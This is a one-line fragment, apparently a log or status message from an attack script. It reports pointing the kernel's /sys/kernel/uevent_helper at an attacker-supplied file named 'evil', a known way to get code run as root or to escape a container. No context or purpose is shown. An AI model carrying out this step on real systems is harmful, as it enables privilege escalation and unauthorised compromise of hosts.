setting /sys/kernel/uevent_helper "$PWD/evil"
